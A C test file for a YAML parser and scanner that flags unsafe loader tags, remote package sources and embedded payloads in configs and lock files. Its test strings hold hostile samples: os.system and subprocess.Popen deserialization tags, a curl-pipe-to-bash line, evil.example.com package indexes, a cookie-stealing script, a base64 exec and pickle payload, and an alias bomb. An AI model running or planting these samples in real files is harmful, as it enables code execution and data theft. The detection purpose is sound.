/* YAML: events of the reader, and what documents say to their loaders. tests/diff/yaml_diff.py compares with PyYAML. */
#include "support/cm.h"

#include <stdio.h>
#include <stdlib.h>

#include "format/formats.h"
#include "support/events.h"
#include "support/judged.h"
#include "wire/yaml.h"

/* ---- the reader: one letter per event ------------------------------------------------------------------------------ */

static void put(struct gh_buf *b, const struct gh_yaml *y)
{
	static const char marks[] = "!.<>{}[]";
	if (y->anchor.n != 0 || y->tag.n != 0) {
		gh_buf_ch(b, '(');
		gh_buf_span(b, y->anchor);
		gh_buf_ch(b, '|');
		gh_buf_span(b, y->tag);
		gh_buf_ch(b, ')');
	}
	if (y->ev == GH_YAML_SCALAR || y->ev == GH_YAML_ALIAS) {
		gh_buf_ch(b, y->ev == GH_YAML_ALIAS ? '*' : '=');
		gh_buf_span(b, y->text);
		gh_buf_ch(b, y->key ? ':' : ' ');
	} else {
		gh_buf_ch(b, marks[y->ev]);
	}
}

static void events(void **state)
{
	(void)state;
	static const struct {
		const char *what, *in, *out;
	} rows[] = {
		{ "nothing", "", "." },
		{ "a comment", "# a\n", "." },
		{ "a scalar", "a b\n", "<=a b >." },
		{ "a mapping", "a: 1\nb: 2\n", "<{=a:=1 =b:=2 }>." },
		{ "a list", "- 1\n- 2", "<[=1 =2 ]>." },
		{ "an empty value", "a:\nb:\n", "<{=a:= =b:= }>." },
		{ "nested", "a:\n  b:\n    - c: 1\n      d: 2\n", "<{=a:{=b:[{=c:=1 =d:=2 }]}}>." },
		{ "a list at the same place", "a:\n- 1\n- 2\nb: 3\n", "<{=a:[=1 =2 ]=b:=3 }>." },
		{ "lists in one line", "- - a\n  - b\n", "<[[=a =b ]]>." },
		{ "flow", "{a: 1, b: [x, y], 'c': {}, d}\n", "<{=a:=1 =b:[=x =y ]=c:{}=d:= }>." },
		{ "a pair in a list", "[a: 1, b]", "<[{=a:=1 }=b ]>." },
		{ "flow over lines", "a: [1,\n2\n]\n", "<{=a:[=1 =2 ]}>." },
		{ "a key of JSON", "{\"a\":1}", "<{=a:=1 }>." },
		{ "an explicit key", "? a\n: b\n? c\n", "<{=a:=b =c:= }>." },
		{ "an empty key", ": a\n", "<{=:=a }>." },
		{ "a collection as key", "[a, b]: c\n", "<{[=a =b ]=c }>." },
		{ "quotes", "'it''s': \"\\x41\\u0042\\n\"\n", "<{=it's:=AB\n }>." },
		{ "quotes over lines", "\"a\n  b\n\n  c \\\n  d\"", "<=a b\nc d >." },
		{ "plain over lines", "a\n b\n\n c\n", "<=a b\nc >." },
		{ "literal", "a: |\n  x\n   y\n\n  z\nb: 1", "<{=a:=x\n y\n\nz\n =b:=1 }>." },
		{ "folded", "a: >-\n  x\n  y\n\n  z\n", "<{=a:=x y\nz }>." },
		{ "kept", "|+\n a\n\n", "<=a\n\n >." },
		{ "indented by its word", "|2\n   a\n", "<= a\n >." },
		{ "anchors", "a: &x 1\nb: *x\n", "<{=a:(x|)=1 =b:*x }>." },
		{ "tags", "!!str a: !t b\n", "<{(|tag:yaml.org,2002:str)=a:(|!t)=b }>." },
		{ "a tag before a mapping", "a: !t\n  b: c\n", "<{=a:(|!t){=b:=c }}>." },
		{ "a directive", "%TAG ! tag:yaml.org,2002:python/\n--- !name:os.system x\n",
		  "<(|tag:yaml.org,2002:python/name:os.system)=x >." },
		{ "a literal tag", "!<tag:a> x", "<(|tag:a)=x >." },
		{ "an escaped tag", "!!python%2fname:os x", "<(|tag:yaml.org,2002:python/name:os)=x >." },
		{ "documents", "a\n---\nb\n...\n# c\n---\n", "<=a ><=b ><= >." },
		{ "colons inside", "a: b:c\nd: http://x/y#z\n", "<{=a:=b:c =d:=http://x/y#z }>." },
		{ "a comment behind", "a: b # c\n", "<{=a:=b }>." },
		{ "a merge", "<<: *a\n", "<{=<<:*a }>." },
		{ "a value at the wrong place", "a: b: c\n", "<{=a:=b !" },
		{ "a tab", "a:\n\tb: c\n", "<{=a:!" },
		{ "no end", "[a, b", "<[=a =b !" },
		{ "quotes without end", "\"a", "<!" },
		{ "a key without colon", "a: 1\nb\n", "<{=a:=1 !" },
		{ "an unknown escape", "\"\\q\"", "<!" },
		{ "two anchors", "&a &b c", "<(a|)!" },
		{ "a character that begins nothing", "a: @b", "<{=a:!" },
		{ "something behind", "'a' b", "<=a !" },
		{ "a lone directive", "%YAML 1.2\na\n", "!" },
	};
	unsigned wrong = 0;
	for (size_t i = 0; i < GH_ROWS(rows); i++) {
		gh_auto_arena arena = { .max = 4 << 20 };
		gh_auto_buf b = gh_buf(4096);
		struct gh_yaml y;
		gh_yaml_open(&y, gh_span_str(rows[i].in), &arena);
		do {
			(void)gh_yaml_next(&y);
			if (y.ev == GH_YAML_BAD)
				assert_non_null(y.why);
			put(&b, &y);
		} while (y.ev > GH_YAML_END);
		if (strcmp(gh_buf_cstr(&b), rows[i].out) != 0) {
			print_message("%s: \"%s\" instead of \"%s\" %s\n", rows[i].what, gh_buf_cstr(&b), rows[i].out,
				      y.ev == GH_YAML_BAD ? y.why : "");
			wrong++;
		}
	}
	assert_int_equal(wrong, 0);
}

static void bounds(void **state)
{
	(void)state;
	enum { N = 1 << 20 };
	static const struct {
		const char *unit;
		const char *why; /* part of the reason, NULL: it is read */
	} rows[] = {
		{ "[", "nested too deeply" },
		{ "- ", "nested too deeply" },
		{ "{a: ", "nested too deeply" },
		{ "a: &a [*a]\n", NULL },
		{ "[]\n- ", "" },
		{ "? ", "nested too deeply" },
		{ "[[[[[[]]]]]],", "" },
		{ "'\n", "" },
		{ "a\n", NULL },
		{ "- a\n", NULL },
		{ "\"a\": ", "mapping" },
	};
	uint8_t *p = malloc(N);
	assert_non_null(p);
	for (size_t i = 0; i < GH_ROWS(rows); i++) {
		size_t u = strlen(rows[i].unit), n = N / u * u;
		for (size_t k = 0; k < n; k++)
			p[k] = (uint8_t)rows[i].unit[k % u];
		gh_auto_arena arena = { .max = 64 << 20 };
		struct gh_yaml y;
		gh_yaml_open(&y, (struct gh_span){ p, n }, &arena);
		while (gh_yaml_next(&y) > GH_YAML_END)
			;
		if (rows[i].why == NULL ? y.ev != GH_YAML_END
					: y.ev != GH_YAML_BAD || strstr(y.why, rows[i].why) == NULL)
			fail_msg("\"%s\": %s", rows[i].unit, y.ev == GH_YAML_BAD ? y.why : "read");
	}
	free(p);
}

static void duplicates(void **state)
{
	(void)state;
	gh_auto_arena arena = { .max = 4 << 20 };
	struct gh_yaml y;
	gh_yaml_open(&y, GH_SPAN("{a: {a: 1}, b: 2, 'a': 3}"), &arena);
	while (gh_yaml_next(&y) > GH_YAML_END)
		if (y.ev == GH_YAML_MAP_END && y.depth == 0) {
			assert_true(y.duplicate);
			assert_int_equal(y.dup_off, 18);
		} else if (y.ev == GH_YAML_MAP_END) {
			assert_false(y.duplicate);
		}
	assert_int_equal(y.ev, GH_YAML_END);
}

/* ---- documents ----------------------------------------------------------------------------------------------------- */

static void documents(void **state)
{
	(void)state;
	static const struct {
		const char *what, *in;
		enum gh_rc rc;
		const char *has, *hasnot;
	} rows[] = {
		{ "plain configuration", "name: x\nlr: 0.1\nlayers: [1, 2]\n", GH_OK, "claim 0+31 struct", "anomaly" },
		{ "a target", "model:\n  _target_: torch.nn.Linear\n", GH_OK, "call inst torch.nn.Linear 19+15",
		  "anomaly" },
		{ "a target by alias", "- &x os.system\n- _target_: *x\n", GH_OK, "call inst os.system", NULL },
		{ "Lightning", "class_path: a.B\ninit_args: {}\n", GH_OK, "call inst a.B", NULL },
		{ "CompVis", "model:\n  params: {a: 1}\n  target: ldm.x.Y\n", GH_OK, "call inst ldm.x.Y", NULL },
		{ "NeMo", "target: nemo.collections.asr.Model\nsample_rate: 16000\n", GH_OK,
		  "call inst nemo.collections.asr.Model", NULL },
		{ "target alone", "target: es.x\n", GH_OK, NULL, "call" },
		{ "HyperPyYAML", "m: !new:speechbrain.nnet.CNN.Conv1d\n  a: 1\n", GH_OK,
		  "call inst speechbrain.nnet.CNN.Conv1d", NULL },
		{ "MLflow", "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n", GH_OK,
		  "call import mlflow.sklearn._load_pyfunc", NULL },
		{ "a call by tag", "!!python/object/apply:os.system [id]\n", GH_OK, "call reduce os.system", NULL },
		{ "the tag in disguise", "%TAG !x! tag:yaml.org,2002:python/object/\n---\n- !x!apply:os.system [id]\n",
		  GH_OK, "call reduce os.system", NULL },
		{ "a tuple", "!!python/tuple [1]\n", GH_OK, NULL, "call" },
		{ "a class of Java", "!!javax.script.ScriptEngineManager [a]\n", GH_OK,
		  "call inst javax.script.ScriptEngineManager", NULL },
		{ "a tag of an application", "a: !Ref b\n", GH_OK, "call import", NULL },
		{ "before it breaks", "!!python/object/apply:os.system [id]\n---\n[\n", GH_E_MALFORMED, "GH-YAML-0001",
		  NULL },
		{ "no YAML", "a: b: c\n", GH_E_MALFORMED, NULL, "claim" },
		{ "a template", "chat_template: '{{ x }}'\n", GH_OK, "text chat-template \"chat_template\" \"{{ x }}\"",
		  "anomaly" },
		{ "an escape", "a: \"{{ ''.__class__ }}\"\n", GH_OK, "GH-YAML-0009", NULL },
		{ "a workflow", "jobs:\n  a:\n    steps:\n      - run: make test\n", GH_OK, "code shell \"run\"",
		  "anomaly" },
		{ "a workflow with Python", "steps:\n- run: import os\n  shell: python\n", GH_OK,
		  "code python \"run\" 14+9", "shell" },
		{ "a template of another language", "template: '{{! comment }}'\n", GH_OK, NULL, "chat-template" },
		{ "an environment", "name: e\nchannels: [x]\ndependencies:\n- numpy=1.21\n- pip:\n  - torch==2.0 ; a\n",
		  GH_OK, "package PyPI \"torch\" \"==2.0\"", "anomaly" },
		{ "an environment with pip and no channels", "dependencies:\n- numpy=1.21\n- pip:\n  - torch==2.0\n",
		  GH_OK, "package PyPI \"torch\" \"==2.0\"", "anomaly" },
		{ "an environment with an index of its own",
		  "dependencies:\n- pip:\n  - --extra-index-url http://evil.example.com/simple\n", GH_OK,
		  "anomaly GH-DEP-0001", NULL },
		{ "an environment with addresses", "dependencies:\n- pip:\n  - x @ http://evil.example.com/x.whl\n",
		  GH_OK, "anomaly GH-DEP-0002", NULL },
		{ "an environment with a repository", "dependencies:\n- pip:\n  - git+https://evil.example.com/x\n",
		  GH_OK, "anomaly GH-DEP-0002", NULL },
		{ "an environment with a channel of its own",
		  "channels: ['http://evil.example.com/c']\ndependencies:\n- numpy\n", GH_OK, "anomaly GH-DEP-0001",
		  NULL },
		{ "an environment with conda's channels",
		  "channels: [conda-forge, 'https://conda.anaconda.org/pytorch']\ndependencies:\n- numpy\n", GH_OK,
		  NULL, "anomaly" },
		{ "conda-lock",
		  "version: 1\nmetadata:\n  sources: [a.yml]\npackage:\n- name: numpy\n  version: 1.26.4\n  manager: "
		  "conda\n"
		  "  dependencies:\n    version: '>=3'\n    name: x\n  platform: linux-64\n",
		  GH_OK, "package conda \"numpy\" \"1.26.4\"", "\">=3\"" },
		{ "conda-lock, by pip", "version: 1\npackage:\n- name: Torch\n  version: 2.5.1\n  manager: pip\n",
		  GH_OK, "package PyPI \"torch\" \"2.5.1\"", "conda" },
		{ "pnpm 5", "lockfileVersion: 5.4\npackages:\n  /@a/b/1.2.3_c@4.0.0:\n    dev: true\n", GH_OK,
		  "package npm \"@a/b\" \"1.2.3\"", NULL },
		{ "pnpm 6", "lockfileVersion: '6.0'\npackages:\n  /@a/b@1.2.3(@c/d@4.0.0):\n    dev: true\n", GH_OK,
		  "package npm \"@a/b\" \"1.2.3\"", NULL },
		{ "pnpm 9",
		  "lockfileVersion: '9.0'\nimporters:\n  .:\n    dependencies:\n      e:\n        version: 9.9.9\n"
		  "packages:\n  left-pad@1.3.0:\n    resolution: {integrity: x}\n",
		  GH_OK, "package npm \"left-pad\" \"1.3.0\"", "9.9.9" },
		{ "pnpm, from an address",
		  "lockfileVersion: '9.0'\npackages:\n  a@https://x.example/a.tgz:\n    v: 1\n", GH_OK, NULL,
		  "package" },
		{ "yarn 2",
		  "__metadata:\n  version: 8\n\"@a/b@npm:^1.0.0\":\n  version: 1.2.3\n  resolution: "
		  "\"@a/b@npm:1.2.3\"\n",
		  GH_OK, "package npm \"@a/b\" \"1.2.3\"", NULL },
		{ "yarn 2, of this project",
		  "__metadata:\n  version: 8\n\"a@workspace:.\":\n  version: 0.0.0-use.local\n  resolution: "
		  "\"a@workspace:.\"\n",
		  GH_OK, NULL, "package" },
		{ "versions elsewhere are no packages", "name: x\nversion: 1.2.3\npackages:\n  a@1.0.0:\n    b: c\n",
		  GH_OK, NULL, "package" },
		{ "remote code", "auto_map:\n  A: evil/r--m.T\n", GH_OK, "GH-YAML-0006", NULL },
		{ "code beside it", "auto_map:\n  A: m.T\n", GH_OK, "GH-YAML-0007", NULL },
		{ "trust", "trust_remote_code: yes\n", GH_OK, "GH-YAML-0008", NULL },
		{ "trust in quotes is a text", "trust_remote_code: 'yes'\n", GH_OK, NULL, "GH-YAML-0008" },
		{ "a key twice", "a: 1\na: 2\n", GH_OK, "GH-YAML-0002", NULL },
		{ "a line that only some see",
		  "a: b\xe2\x80\xa8"
		  "c: d\n",
		  GH_OK, "GH-YAML-0003", NULL },
		{ "code in a value", "x: __import__('os').system('id')\n", GH_OK, "GH-YAML-0201", NULL },
		{ "a command in a value", "note: curl -s http://1.2.3.4/x.sh | bash\n", GH_OK, "GH-YAML-0202", NULL },
		{ "a script for a browser", "note: '<script>alert(document.cookie)</script>'\n", GH_OK, "GH-YAML-0203",
		  NULL },
		{ "escaped bytes", "note: exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))\n", GH_OK,
		  "GH-YAML-0204", NULL },
		{ "an address", "note: http://evil.example/payload.exe\n", GH_OK, "GH-YAML-0205", NULL },
		{ "a credential", "aws: AKIAIOSFODNN7ABCDEFG\n", GH_OK, "GH-YAML-0206", NULL },
		{ "Keras as YAML", "class_name: Lambda\nconfig: {}\n", GH_OK, "call operation ? .Lambda", NULL },
		{ "a pickle in base64",
		  "d: gASVHgAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==\nb: !!binary "
		  "gASVHgAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==\n",
		  GH_OK, "member \"b\" nested", NULL },
	};
	unsigned wrong = 0;
	for (size_t i = 0; i < GH_ROWS(rows); i++)
		for (int shaky = 0; shaky < 2; shaky++) {
			struct gh_events ev;
			gh_events_walk(&ev, &gh_fmt_yaml, gh_span_str(rows[i].in), "x.yaml", shaky != 0);
			bool ok = ev.rc == rows[i].rc && (rows[i].has == NULL || gh_events_has(&ev, rows[i].has)) &&
				  (rows[i].hasnot == NULL || !gh_events_has(&ev, rows[i].hasnot));
			if (!ok)
				print_message("%s: rc %d\n%s%s\n", rows[i].what, ev.rc, gh_buf_cstr(&ev.log), ev.why);
			wrong += !ok;
			gh_events_free(&ev);
		}
	assert_int_equal(wrong, 0);
}

/* A bomb of aliases is seen in the time of its text. */
static void bomb(void **state)
{
	(void)state;
	char in[4096];
	size_t n = (size_t)snprintf(in, sizeof in, "a0: &a0 [x, x]\n");
	for (int i = 1; i < 30; i++)
		n += (size_t)snprintf(in + n, sizeof in - n, "a%d: &a%d [*a%d, *a%d, *a%d]\n", i, i, i - 1, i - 1,
				      i - 1);
	struct gh_events ev;
	gh_events_walk(&ev, &gh_fmt_yaml, (struct gh_span){ (uint8_t *)in, n }, "x.yaml", false);
	assert_true(gh_events_has(&ev, "GH-YAML-0004"));
	gh_events_free(&ev);
}

static void more_keys_than_watched(void **state)
{
	(void)state;
	enum { KEYS = 2200000, EACH = 9 };
	char *p = malloc(KEYS * EACH + 1);
	assert_non_null(p);
	for (size_t i = 0; i < KEYS; i++)
		(void)snprintf(p + i * EACH, EACH + 1, "%06zx: \n", i);
	struct gh_events ev;
	gh_events_walk(&ev, &gh_fmt_yaml, (struct gh_span){ (uint8_t *)p, (size_t)KEYS * EACH }, "x.yaml", false);
	assert_int_equal(ev.rc, GH_E_LIMIT);
	assert_true(gh_events_has(&ev, "GH-YAML-0005"));
	gh_events_free(&ev);
	free(p);
}

/* Through the whole pipeline, as a file of that name. */
static void judged(void **state)
{
	(void)state;
	static const struct {
		const char *name, *in;
		enum gh_verdict verdict;
	} rows[] = {
		{ "config.yaml", "name: x\nlr: 0.1\n", GH_CLEAN },
		{ "model_config.yaml", "optim:\n  _target_: torch.optim.AdamW\n  lr: 0.1\n", GH_CLEAN },
		{ "model_config.yaml", "_target_: os.system\ncommand: id\n", GH_UNSAFE },
		{ "notes.txt", "model:\n  _target_: os.system\n", GH_UNSAFE },
		{ "a.yml", "!!python/object/apply:subprocess.Popen [[id]]\n", GH_UNSAFE },
		{ "a.txt", "!!python/object/apply:subprocess.Popen [[id]]\n", GH_UNSAFE },
		{ "a.yaml", "# nothing yet\n", GH_CLEAN },
		{ "a.yaml", "a: 1\n b: 2\n", GH_INCOMPLETE },
		{ "yarn.lock",
		  "__metadata:\n  version: 8\n\"a@npm:^1\":\n  version: 1.2.3\n  resolution: \"a@npm:1.2.3\"\n",
		  GH_CLEAN },
		{ "yarn.lock", "# yarn lockfile v1\n\n\na@^1.0.0:\n  version \"1.2.3\"\n", GH_CLEAN },
		{ "yarn.lock", "#!/bin/sh\n# yarn lockfile v1\ncurl -s http://1.2.3.4/x.sh | sh\n", GH_UNSAFE },
		{ "MLmodel", "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n", GH_CLEAN },
	};
	unsigned wrong = 0;
	for (size_t i = 0; i < GH_ROWS(rows); i++) {
		struct gh_test_judged j;
		gh_test_judge(&j, gh_span_str(rows[i].in), rows[i].name);
		if (j.verdict != rows[i].verdict) {
			print_message("%s \"%s\": %d\n%s", rows[i].name, rows[i].in, (int)j.verdict, j.all);
			wrong++;
		}
	}
	assert_int_equal(wrong, 0);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(events),    cmocka_unit_test(bounds), cmocka_unit_test(duplicates),
		cmocka_unit_test(documents), cmocka_unit_test(bomb),   cmocka_unit_test(more_keys_than_watched),
		cmocka_unit_test(judged),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
